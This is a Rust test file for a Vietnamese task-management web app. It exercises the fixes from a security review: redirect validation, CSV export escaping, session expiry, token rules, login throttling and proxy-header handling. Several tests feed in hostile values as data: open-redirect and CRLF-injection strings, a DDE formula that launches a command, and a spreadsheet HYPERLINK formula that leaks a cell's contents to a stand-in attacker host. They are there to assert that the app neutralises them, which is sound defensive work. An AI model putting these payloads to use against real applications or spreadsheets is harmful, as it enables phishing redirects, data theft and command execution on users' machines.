//! The findings of the security review, each as the request that showed it:
//! open redirects, formula injection, sessions that outlived their end, tokens
//! made for others, sign-in throttling, body limits and file permissions.

mod common;

use common::{csrf_in, TestApp, WebClient, PASSWORD};
use diesel::RunQueryDsl;
use dondoc::domain::Role;

/// A client that keeps no cookies: the cookie is sent by hand, as a copied one would be.
fn bare() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client")
}

fn session_cookie(res: &reqwest::Response) -> Option<String> {
    res.headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("dondoc="))
        .map(|v| v.split(';').next().unwrap_or("").to_string())
}

/// Signs in without a cookie jar; the session cookie (`dondoc=…`).
async fn sign_in_cookie(app: &TestApp, email: &str, password: &str) -> String {
    let client = bare();
    let res = client
        .get(app.url("/login"))
        .send()
        .await
        .expect("login form");
    let cookie = session_cookie(&res).expect("a session for the form");
    let csrf = csrf_in(&res.text().await.expect("html")).expect("csrf");
    let res = client
        .post(app.url("/login"))
        .header("cookie", &cookie)
        .header("user-agent", "TrinhDuyetThu/1.0")
        .form(&[
            ("csrf", csrf.as_str()),
            ("email", email),
            ("password", password),
            ("next", "/dashboard"),
        ])
        .send()
        .await
        .expect("login");
    assert_eq!(res.status().as_u16(), 303, "signed in");
    session_cookie(&res).expect("a new session on sign-in")
}

/// GET with that cookie: the status and where it sends.
async fn get_with(app: &TestApp, cookie: &str, path: &str) -> (u16, String) {
    let res = bare()
        .get(app.url(path))
        .header("cookie", cookie)
        .send()
        .await
        .expect("get");
    let location = res
        .headers()
        .get("location")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string();
    (res.status().as_u16(), location)
}

fn user_id(app: &TestApp, role: Role) -> i64 {
    let mut conn = app.db.conn().expect("conn");
    dondoc::storage::users::by_email(&mut conn, &app.email_of(role))
        .expect("user")
        .user
        .id
}

/// The keys of the sign-in throttle's buckets.
fn bucket_keys(app: &TestApp) -> Vec<String> {
    use diesel::prelude::*;
    use dondoc::storage::schema::login_buckets;
    let mut conn = app.db.conn().expect("conn");
    dondoc::storage::with_conn!(&mut *conn, c => login_buckets::table.select(login_buckets::key).load(c)).expect("buckets")
}

fn sql(app: &TestApp, query: &str) {
    let mut conn = app.db.conn().expect("conn");
    dondoc::storage::with_conn!(&mut *conn, c => diesel::sql_query(query).execute(c)).expect(query);
}

on_both_backends! {
    async fn next_never_leaves_the_site(app) {
        let web = WebClient::new(&app);
        let csrf = web.csrf().await;
        for bad in ["/\t/evil.example/", "//evil.example/", "/\\evil.example/", "/\r\nSet-Cookie: a=b", "https://evil.example/"] {
            let (status, location, _) = web.post("/lang/vi", &[("csrf", csrf.as_str()), ("next", bad)]).await;
            assert_eq!((status, location.as_deref()), (303, Some("/")), "{bad:?}");
        }
        // The query string decodes %09 and %0d%0a into the raw characters.
        let (status, html) = web.get("/login?next=/%09/evil.example/").await;
        assert_eq!(status, 200);
        assert!(!html.contains("\t&#x2F;evil") && !html.contains("\t/evil"), "the form does not carry it");
        let (status, _) = web.get("/login?next=/%0d%0aX:%20y").await;
        assert_eq!(status, 200);
        let email = app.email_of(Role::Official);
        let (status, location, _) = web.post("/login", &[("csrf", csrf.as_str()), ("email", &email), ("password", PASSWORD), ("next", "/\t/evil.example/")]).await;
        assert_eq!((status, location.as_deref()), (303, Some("/")));
        let (status, location) = {
            let res = web.client.get(format!("{}/login?next=/%09/evil.example/", web.base)).send().await.expect("get");
            (res.status().as_u16(), res.headers().get("location").and_then(|v| v.to_str().ok()).map(str::to_string))
        };
        assert_eq!((status, location.as_deref()), (303, Some("/")), "signed in: straight home");
        let csrf = web.csrf().await;
        let (_, location, _) = web.post("/lang/en", &[("csrf", csrf.as_str()), ("next", "/tasks?status=overdue")]).await;
        assert_eq!(location.as_deref(), Some("/tasks?status=overdue"), "a local path is kept");
    }

    async fn the_language_switch_changes_nothing_on_a_get(app) {
        let web = app.web_as(Role::Unit).await;
        let (status, _) = web.get("/lang/en?next=/tasks").await;
        assert_eq!(status, 404);
        let mut conn = app.db.conn().expect("conn");
        let user = dondoc::storage::users::by_email(&mut conn, &app.email_of(Role::Unit)).expect("user").user;
        assert_eq!(user.language, "vi", "a link followed from elsewhere changes no stored data");
    }

    async fn csv_cells_never_run_as_formulas(app) {
        app.add_units(&[("CMD", "=cmd|' /C calc'!A0", Some("TUHN"))]);
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
        let res = app.client.post(app.url("/api/v1/tasks")).bearer_auth(&app.tokens[&Role::Official])
            .json(&serde_json::json!({"content": formula, "lead_unit": "CMD", "assigned_on": "2022-07-07", "deadline": "2022-12-31"}))
            .send().await.expect("create");
        assert_eq!(res.status().as_u16(), 201);
        let web = app.web_as(Role::Leader).await;
        for path in ["/dashboard/tasks.csv?period=2022-H2", "/dashboard/export.csv?period=2022-H2"] {
            let (status, body) = web.get(path).await;
            assert_eq!(status, 200, "{path}");
            let mut reader = csv::ReaderBuilder::new().from_reader(body.trim_start_matches('\u{feff}').as_bytes());
            let mut cells = 0;
            for record in reader.records() {
                for cell in record.expect("row").iter() {
                    assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{path}: {cell:?}");
                    cells += 1;
                }
            }
            assert!(cells > 0);
            assert!(body.contains("'=cmd|"), "{path}: the unit's name is kept, as text");
        }
        let (_, body) = web.get("/dashboard/tasks.csv?period=2022-H2").await;
        assert!(body.contains("'=HYPERLINK("), "the content is kept, as text");
    }

    async fn a_copied_cookie_dies_with_its_session(app) {
        let email = app.email_of(Role::Official);
        // Sign-out.
        let cookie = sign_in_cookie(&app, &email, PASSWORD).await;
        assert_eq!(get_with(&app, &cookie, "/dashboard").await.0, 200);
        let res = bare().get(app.url("/account")).header("cookie", &cookie).send().await.expect("account");
        let csrf = csrf_in(&res.text().await.expect("html")).expect("csrf");
        let res = bare().post(app.url("/logout")).header("cookie", &cookie).form(&[("csrf", csrf.as_str())]).send().await.expect("logout");
        assert_eq!(res.status().as_u16(), 303);
        let (status, location) = get_with(&app, &cookie, "/dashboard").await;
        assert_eq!(status, 303, "the copy is signed out too");
        assert!(location.starts_with("/login"), "{location}");

        // A new password: every other session ends, this one goes on.
        let stolen = sign_in_cookie(&app, &email, PASSWORD).await;
        let web = app.web_as(Role::Official).await;
        let csrf = web.csrf().await;
        let (status, _, _) = web.post("/account/password", &[("csrf", csrf.as_str()), ("current", PASSWORD), ("new", "mat-khau-moi-9"), ("confirm", "mat-khau-moi-9")]).await;
        assert_eq!(status, 303);
        assert_eq!(get_with(&app, &stolen, "/dashboard").await.0, 303, "ended by the new password");
        assert_eq!(web.get("/dashboard").await.0, 200, "the session that changed it goes on");

        // Deactivated, then active again: the old cookie stays dead.
        let stolen = sign_in_cookie(&app, &email, "mat-khau-moi-9").await;
        let admin = app.web_as(Role::Admin).await;
        let csrf = admin.csrf().await;
        let id = user_id(&app, Role::Official);
        let (status, _, _) = admin.post(&format!("/admin/users/{id}"), &[("csrf", csrf.as_str()), ("role", "official"), ("unit", "")]).await;
        assert_eq!(status, 303);
        let (status, _, _) = admin.post(&format!("/admin/users/{id}"), &[("csrf", csrf.as_str()), ("role", "official"), ("unit", ""), ("active", "1")]).await;
        assert_eq!(status, 303);
        assert_eq!(get_with(&app, &stolen, "/dashboard").await.0, 303, "deactivation ended it for good");

        // A role change ends the sessions too.
        let stolen = sign_in_cookie(&app, &email, "mat-khau-moi-9").await;
        let (status, _, _) = admin.post(&format!("/admin/users/{id}"), &[("csrf", csrf.as_str()), ("role", "leader"), ("unit", ""), ("active", "1")]).await;
        assert_eq!(status, 303);
        assert_eq!(get_with(&app, &stolen, "/dashboard").await.0, 303, "a new role signs in again");
    }

    async fn sessions_end_when_idle_or_old(app) {
        let email = app.email_of(Role::Leader);
        let cookie = sign_in_cookie(&app, &email, PASSWORD).await;
        assert_eq!(get_with(&app, &cookie, "/dashboard").await.0, 200);
        let idle = if app.backend == common::Backend::Sqlite {
            "UPDATE sessions SET last_seen_at = datetime('now', '-121 minutes') WHERE user_id IS NOT NULL"
        } else {
            "UPDATE sessions SET last_seen_at = (now() at time zone 'utc') - interval '121 minutes' WHERE user_id IS NOT NULL"
        };
        sql(&app, idle);
        let (status, location) = get_with(&app, &cookie, "/dashboard").await;
        assert_eq!(status, 303);
        assert!(location.contains("expired=1"), "the form says why: {location}");
        // In use all along, it still ends twelve hours after sign-in.
        let cookie = sign_in_cookie(&app, &email, PASSWORD).await;
        let old = if app.backend == common::Backend::Sqlite {
            "UPDATE sessions SET created_at = datetime('now', '-721 minutes') WHERE user_id IS NOT NULL"
        } else {
            "UPDATE sessions SET created_at = (now() at time zone 'utc') - interval '721 minutes' WHERE user_id IS NOT NULL"
        };
        sql(&app, old);
        assert_eq!(get_with(&app, &cookie, "/dashboard").await.0, 303, "past the absolute lifetime");
    }

    async fn reading_pages_writes_no_session(app) {
        let email = app.email_of(Role::Leader);
        let cookie = sign_in_cookie(&app, &email, PASSWORD).await;
        assert_eq!(get_with(&app, &cookie, "/dashboard").await.0, 200);
        // Seen half a minute ago: within the minute in which use is not recorded again.
        let at = (chrono::Utc::now().naive_utc() - chrono::Duration::seconds(30))
            .format("%Y-%m-%d %H:%M:%S")
            .to_string();
        sql(&app, &format!("UPDATE sessions SET last_seen_at = '{at}' WHERE user_id IS NOT NULL"));
        let untouched = || {
            let mut conn = app.db.conn().expect("conn");
            let query = format!("(SELECT COUNT(*) FROM sessions WHERE user_id IS NOT NULL AND last_seen_at = '{at}')");
            dondoc::storage::with_conn!(&mut *conn, c => diesel::select(diesel::dsl::sql::<diesel::sql_types::BigInt>(&query)).get_result::<i64>(c)).expect("count")
        };
        assert_eq!(untouched(), 1);
        for path in ["/dashboard", "/tasks", "/meetings", "/units"] {
            assert_eq!(get_with(&app, &cookie, path).await.0, 200, "{path}");
        }
        // A page read leaves the session's row as it was: no write per view.
        assert_eq!(untouched(), 1, "the session was written by reading pages");
    }

    async fn the_account_page_lists_and_ends_sessions(app) {
        let email = app.email_of(Role::Unit);
        let elsewhere = sign_in_cookie(&app, &email, PASSWORD).await;
        let web = app.web_as(Role::Unit).await;
        let (status, html) = web.get("/account").await;
        assert_eq!(status, 200);
        assert!(html.contains("TrinhDuyetThu") && html.contains("127.0.0.1"), "{html}");
        assert!(html.contains("phiên này"), "this session is marked");
        assert_eq!(html.matches("/account/sessions/").count(), 3, "two sessions to end, and all of them");
        // Another user's session cannot be ended from here.
        let other = sign_in_cookie(&app, &app.email_of(Role::Leader), PASSWORD).await;
        let csrf = csrf_in(&html).expect("csrf");
        let (status, _, _) = web.post("/account/sessions/nope/end", &[("csrf", csrf.as_str())]).await;
        assert_eq!(status, 404);
        let (status, _, _) = web.post("/account/sessions/end", &[("csrf", csrf.as_str())]).await;
        assert_eq!(status, 303);
        assert_eq!(get_with(&app, &elsewhere, "/dashboard").await.0, 303, "signed out everywhere");
        assert_eq!(web.get("/dashboard").await.0, 303, "here too");
        assert_eq!(get_with(&app, &other, "/dashboard").await.0, 200, "another user's session goes on");
    }

    async fn admins_cannot_make_tokens_for_others(app) {
        let admin = app.web_as(Role::Admin).await;
        let csrf = admin.csrf().await;
        let (status, _, _) = admin.post("/admin/tokens", &[("csrf", csrf.as_str()), ("email", &app.email_of(Role::Official)), ("label", "x")]).await;
        assert!(matches!(status, 404 | 405), "no such form: {status}");
        let (_, html) = admin.get("/admin/tokens").await;
        assert!(!html.contains("name=\"email\""), "no form to make one");
        // An official makes their own: the audit log names them, and what it does is theirs.
        let official = app.web_as(Role::Official).await;
        let csrf = official.csrf().await;
        let (status, _, body) = official.post("/account/tokens", &[("csrf", csrf.as_str()), ("label", "máy chủ báo cáo")]).await;
        assert_eq!(status, 200);
        let at = body.find("id=\"new-token\">").expect("token shown") + "id=\"new-token\">".len();
        let token = body[at..at + body[at..].find('<').expect("end")].to_string();
        let (_, audit) = admin.get("/admin/audit").await;
        let official_email = app.email_of(Role::Official);
        assert!(audit.contains(&official_email), "the maker is named");
        // Another user cannot revoke it; the admin can.
        let id = {
            let mut conn = app.db.conn().expect("conn");
            dondoc::storage::users::list_tokens(&mut conn).expect("tokens").into_iter().find(|t| t.label == "máy chủ báo cáo").expect("token").id
        };
        let unit = app.web_as(Role::Unit).await;
        let csrf_unit = unit.csrf().await;
        let (status, _, _) = unit.post(&format!("/account/tokens/{id}/revoke"), &[("csrf", csrf_unit.as_str())]).await;
        assert_eq!(status, 404);
        let res = app.client.get(app.url("/api/v1/units")).bearer_auth(&token).send().await.expect("api");
        assert_eq!(res.status().as_u16(), 200);
        let csrf = admin.csrf().await;
        let (status, _, _) = admin.post(&format!("/admin/tokens/{id}/revoke"), &[("csrf", csrf.as_str())]).await;
        assert_eq!(status, 303);
        let res = app.client.get(app.url("/api/v1/units")).bearer_auth(&token).send().await.expect("api");
        assert_eq!(res.status().as_u16(), 401);
    }

    async fn parallel_guesses_get_five_tries(app) {
        let email = app.email_of(Role::Leader);
        let web = WebClient::new(&app);
        let csrf = web.csrf().await;
        let mut tries = Vec::new();
        for _ in 0..20 {
            let client = web.client.clone();
            let (url, csrf, email) = (format!("{}/login", web.base), csrf.clone(), email.clone());
            tries.push(tokio::spawn(async move {
                client.post(url).form(&[("csrf", csrf.as_str()), ("email", email.as_str()), ("password", "doan-bua")]).send().await.expect("login").status().as_u16()
            }));
        }
        let mut checked = 0;
        for t in tries {
            let status = t.await.expect("task");
            assert!(status == 401 || status == 429, "{status}");
            checked += usize::from(status == 401);
        }
        assert_eq!(checked, 5, "only five passwords were checked");
    }

    async fn throttling_decays_and_spares_other_addresses(app) {
        use dondoc::domain::throttle::keys;
        use dondoc::storage::throttle::{attempt, succeeded};
        let mut conn = app.db.conn().expect("conn");
        let victim = "lanh-dao@example.vn";
        for _ in 0..5 {
            assert_eq!(attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt"), None);
        }
        assert!(attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt").is_some(), "the sixth from there waits");
        // The owner, elsewhere, is not locked out by it.
        assert_eq!(attempt(&mut conn, &keys(victim, "198.51.100.7")).expect("attempt"), None);
        // Old failures drain away.
        drop(conn);
        let back = if app.backend == common::Backend::Sqlite {
            "UPDATE login_buckets SET updated_at = datetime(updated_at, '-15 minutes')"
        } else {
            "UPDATE login_buckets SET updated_at = updated_at - interval '15 minutes'"
        };
        sql(&app, back);
        let mut conn = app.db.conn().expect("conn");
        assert_eq!(attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt"), None, "the wait passed");
        // A success empties the account's and the pair's buckets.
        for _ in 0..4 {
            attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt");
        }
        let [account, pair, address] = keys(victim, "203.0.113.9");
        succeeded(&mut conn, &[account.0, pair.0], &[address]).expect("success");
        for _ in 0..5 {
            assert_eq!(attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt"), None);
        }
        // An office behind one address: 60 colleagues' typos do not lock the 61st out.
        for n in 0..60 {
            assert_eq!(attempt(&mut conn, &keys(&format!("nv{n}@example.vn"), "192.0.2.1")).expect("attempt"), None);
        }
        assert_eq!(attempt(&mut conn, &keys("nv61@example.vn", "192.0.2.1")).expect("attempt"), None);
    }

    async fn a_spoofed_forwarded_address_dodges_no_throttle(app) {
        // No proxy is trusted by default: the header is the client's word, and ignored.
        let email = app.email_of(Role::Leader);
        let web = WebClient::new(&app);
        let csrf = web.csrf().await;
        let mut statuses = Vec::new();
        for n in 1..=6 {
            let res = web.client.post(app.url("/login"))
                .header("x-forwarded-for", format!("198.51.100.{n}"))
                .form(&[("csrf", csrf.as_str()), ("email", email.as_str()), ("password", "doan-bua")])
                .send().await.expect("login");
            statuses.push(res.status().as_u16());
        }
        assert_eq!(statuses, [401, 401, 401, 401, 401, 429], "one address, whatever the header says");
        let keys = bucket_keys(&app);
        assert!(keys.iter().any(|k| k == &format!("pair:127.0.0.1|{email}")), "{keys:?}");
        assert!(keys.iter().all(|k| !k.contains("198.51.100.")), "{keys:?}");
        // Nor does it name the address of a session.
        let res = web.client.get(app.url("/login")).send().await.expect("form");
        let csrf = csrf_in(&res.text().await.expect("html")).expect("csrf");
        let member = app.email_of(Role::Unit);
        let res = web.client.post(app.url("/login")).header("x-forwarded-for", "198.51.100.77")
            .form(&[("csrf", csrf.as_str()), ("email", member.as_str()), ("password", PASSWORD), ("next", "/account")])
            .send().await.expect("login");
        assert_eq!(res.status().as_u16(), 303);
        let (_, html) = web.get("/account").await;
        assert!(html.contains("127.0.0.1") && !html.contains("198.51.100.77"), "{html}");
    }

    async fn report_links_are_listed_and_revoked_on_the_task_page(app) {
        let new_task = |lead: &'static str, coordinators: Vec<&'static str>| {
            let app = &app;
            async move {
                let res = app.client.post(app.url("/api/v1/tasks")).bearer_auth(&app.tokens[&Role::Official])
                    .json(&serde_json::json!({"content": "Báo cáo sơ kết", "lead_unit": lead, "coordinators": coordinators, "assigned_on": "2022-07-07", "deadline": "2030-12-31"}))
                    .send().await.expect("create");
                assert_eq!(res.status().as_u16(), 201);
                res.json::<serde_json::Value>().await.expect("json")["id"].as_i64().expect("id")
            }
        };
        let task = new_task("BTGTU", vec!["VPTU"]).await;
        let elsewhere = new_task("VPTU", vec![]).await;
        let expires = chrono::Utc::now() + chrono::Duration::days(3);
        let (secret, btgtu, mine, theirs, other) = {
            let mut conn = app.db.conn().expect("conn");
            let secret = dondoc::storage::settings::get(&mut conn, "secret_key").expect("setting").expect("secret");
            let btgtu = dondoc::storage::units::by_code(&mut conn, "BTGTU").expect("unit").id;
            let vptu = dondoc::storage::units::by_code(&mut conn, "VPTU").expect("unit").id;
            let create = |conn: &mut dondoc::storage::Conn, task, unit| dondoc::storage::report_links::create(conn, task, unit, expires.naive_utc()).expect("link");
            let mine = create(&mut conn, task, btgtu);
            let theirs = create(&mut conn, task, vptu);
            let other = create(&mut conn, elsewhere, vptu);
            (secret, btgtu, mine, theirs, other)
        };
        let token = dondoc::mail::link::sign(&secret, mine, task, btgtu, expires);
        let link = format!("/tasks/{task}/report?t={token}");
        let anonymous = WebClient::new(&app);
        assert_eq!(anonymous.get(&link).await.0, 200, "the link works");

        // The office and the lead unit see who holds a live link, and until when.
        let official = app.web_as(Role::Official).await;
        let (_, html) = official.get(&format!("/tasks/{task}")).await;
        let shown = |html: &str, id: i64| html.contains(&format!("action=\"/report-links/{id}/revoke\""));
        assert!(shown(&html, mine) && shown(&html, theirs) && !shown(&html, other), "{html}");
        assert!(html.contains("Ban Tuyên giáo Tỉnh ủy") && html.contains("Văn phòng Tỉnh ủy"), "who it was sent to");
        // Escaped as every text of a page is: 05&#x2F;12&#x2F;2026.
        let until = expires.with_timezone(&chrono_tz::Asia::Ho_Chi_Minh).format("%d&#x2F;%m&#x2F;%Y %H:%M").to_string();
        assert!(html.contains(&until), "its expiry: {until}");
        let lead = app.web_as(Role::Unit).await; // BTGTU
        let (_, html) = lead.get(&format!("/tasks/{task}")).await;
        assert!(shown(&html, mine) && shown(&html, theirs), "the lead unit sees them");
        let leader = app.web_as(Role::Leader).await;
        assert!(!leader.get(&format!("/tasks/{task}")).await.1.contains("/report-links/"), "a leader does not");

        // The lead unit revokes one of its task's links, and none of another task's.
        let csrf = lead.csrf().await;
        let (status, _, _) = lead.post(&format!("/report-links/{other}/revoke"), &[("csrf", csrf.as_str())]).await;
        assert_eq!(status, 404, "not its task");
        let (status, _, _) = lead.post(&format!("/report-links/{mine}/revoke"), &[]).await;
        assert_eq!(status, 403, "a form without the session's token");
        let (status, location, _) = lead.post(&format!("/report-links/{mine}/revoke"), &[("csrf", csrf.as_str())]).await;
        assert_eq!((status, location), (303, Some(format!("/tasks/{task}#report-links"))));
        let (status, _, _) = lead.post(&format!("/report-links/{mine}/revoke"), &[("csrf", csrf.as_str())]).await;
        assert_eq!(status, 404, "already revoked");

        // The revoked link says so, on a page, and takes no report.
        let (status, html) = anonymous.get(&link).await;
        assert_eq!(status, 401);
        assert!(html.contains("đã bị thu hồi"), "{html}");
        let form = reqwest::multipart::Form::new().text("percent", "50").text("note", "Qua đường dẫn cũ");
        let res = anonymous.client.post(app.url(&format!("{link}&csrf={}", anonymous.csrf().await))).multipart(form).send().await.expect("report");
        assert_eq!(res.status().as_u16(), 401);
        let mut conn = app.db.conn().expect("conn");
        assert!(dondoc::storage::progress::reports(&mut conn, task).expect("reports").is_empty(), "no report through a revoked link");
        drop(conn);

        // The office revokes the other; the history names who did.
        let csrf = official.csrf().await;
        let (status, _, _) = official.post(&format!("/report-links/{theirs}/revoke"), &[("csrf", csrf.as_str())]).await;
        assert_eq!(status, 303);
        let (_, html) = official.get(&format!("/tasks/{task}")).await;
        assert!(!shown(&html, mine) && !shown(&html, theirs) && html.contains("Không có đường dẫn nào còn hiệu lực"), "{html}");
        assert_eq!(html.matches("Thu hồi đường dẫn báo cáo").count(), 2, "both in the history");
    }

    async fn a_huge_json_body_is_413(app) {
        let big = format!("{{\"content\": \"{}\"}}", "x".repeat(20 * 1024 * 1024));
        let res = app.client.post(app.url("/api/v1/tasks")).bearer_auth(&app.tokens[&Role::Official])
            .header("content-type", "application/json").body(big).send().await.expect("post");
        assert_eq!(res.status().as_u16(), 413);
        let body: serde_json::Value = res.json().await.expect("json");
        assert_eq!(body["error"], "too_large");
    }
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_database_file_is_private() {
    use std::os::unix::fs::PermissionsExt;
    let app = TestApp::spawn(common::Backend::Sqlite).await;
    let path = app.test_db.dir().join("dondoc.db");
    let mode = std::fs::metadata(&path)
        .expect("db file")
        .permissions()
        .mode()
        & 0o777;
    assert_eq!(mode, 0o600, "{path:?}");
}

/// Behind a trusted proxy, the client is the right-most address of
/// `X-Forwarded-For` that is not the proxy's; what a client wrote to its left
/// counts for nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn behind_a_trusted_proxy_the_forwarded_client_counts() {
    let app = TestApp::spawn_with(
        common::Backend::Sqlite,
        &[("DONDOC_TRUSTED_PROXIES", "127.0.0.1, 10.0.0.0/8".into())],
    )
    .await;
    let email = app.email_of(Role::Leader);
    let web = WebClient::new(&app);
    let csrf = web.csrf().await;
    let attempt = |forwarded: String| {
        let (web, csrf, email) = (&web, csrf.clone(), email.clone());
        async move {
            web.client
                .post(format!("{}/login", web.base))
                .header("x-forwarded-for", forwarded)
                .form(&[
                    ("csrf", csrf.as_str()),
                    ("email", email.as_str()),
                    ("password", "doan-bua"),
                ])
                .send()
                .await
                .expect("login")
                .status()
                .as_u16()
        }
    };
    // Six clients behind the proxy: each has its own pair bucket.
    for n in 1..=6 {
        assert_eq!(attempt(format!("198.51.100.{n}")).await, 401, "client {n}");
    }
    // One client, whatever it prepends, through two proxies.
    for n in 1..=6 {
        let status = attempt(format!("203.0.113.{n}, 192.0.2.50, 10.1.2.3")).await;
        assert_eq!(status, if n < 6 { 401 } else { 429 }, "attempt {n}");
    }
    let keys = bucket_keys(&app);
    assert!(
        keys.contains(&format!("pair:192.0.2.50|{email}")),
        "{keys:?}"
    );
    assert!(
        keys.iter()
            .all(|k| !k.contains("203.0.113.") && !k.contains("127.0.0.1")),
        "{keys:?}"
    );
    // The account page shows the client's address.
    let res = web
        .client
        .get(app.url("/login"))
        .send()
        .await
        .expect("form");
    let csrf = csrf_in(&res.text().await.expect("html")).expect("csrf");
    let member = app.email_of(Role::Unit);
    let res = web
        .client
        .post(app.url("/login"))
        .header("x-forwarded-for", "198.51.100.77")
        .form(&[
            ("csrf", csrf.as_str()),
            ("email", member.as_str()),
            ("password", PASSWORD),
            ("next", "/account"),
        ])
        .send()
        .await
        .expect("login");
    assert_eq!(res.status().as_u16(), 303);
    let (_, html) = web.get("/account").await;
    assert!(html.contains("198.51.100.77"), "{html}");
}

/// Runs SQL on the PostgreSQL server's own database (not the test's).
fn on_server(query: &str) {
    use diesel::connection::SimpleConnection;
    use diesel::Connection;
    let mut conn = diesel::PgConnection::establish(&common::postgres_admin_url()).expect("server");
    conn.batch_execute(query).expect(query);
}

/// When the database gives no connection, pages answer a short 503 page and
/// the API a 503 `{error, message}`: never a 500. Once it is back, so is the app.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_that_goes_away_is_a_503_not_a_500() {
    let app = TestApp::spawn(common::Backend::Postgres).await;
    let signed_in = app.web_as(Role::Official).await;
    assert_eq!(signed_in.get("/dashboard").await.0, 200);
    let name = url::Url::parse(&app.test_db.url)
        .expect("url")
        .path()
        .trim_start_matches('/')
        .to_string();
    let check_down = |what: &'static str| {
        let (app, signed_in) = (&app, &signed_in);
        async move {
            // A session to read first, then the page.
            let (status, html) = signed_in.get("/dashboard").await;
            assert_eq!(status, 503, "{what}: {html}");
            assert!(
                html.contains("<html lang=\"vi\"") && html.contains("Vui lòng thử lại sau ít phút"),
                "{what}: {html}"
            );
            // No session yet: the page runs, and its new session cannot be written.
            let (status, html) = WebClient::new(app).get("/login").await;
            assert_eq!(status, 503, "{what}: {html}");
            let res = app
                .get("/api/v1/tasks", Role::Official)
                .send()
                .await
                .expect("api");
            assert_eq!(res.status().as_u16(), 503, "{what}");
            let body: serde_json::Value = res.json().await.expect("json");
            assert_eq!(body["error"], "unavailable", "{what}");
            assert!(
                body["message"]
                    .as_str()
                    .is_some_and(|m| m.contains("Cơ sở dữ liệu")),
                "{body}"
            );
        }
    };
    // The server refuses the database and cuts the pool's connections.
    on_server(&format!(
        "ALTER DATABASE {name} ALLOW_CONNECTIONS false; \
        SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{name}'"
    ));
    check_down("refused").await;
    on_server(&format!("ALTER DATABASE {name} ALLOW_CONNECTIONS true"));
    assert_eq!(
        signed_in.get("/dashboard").await.0,
        200,
        "back, and the session with it"
    );
    // Dropped altogether.
    on_server(&format!("DROP DATABASE {name} WITH (FORCE)"));
    check_down("dropped").await;
}
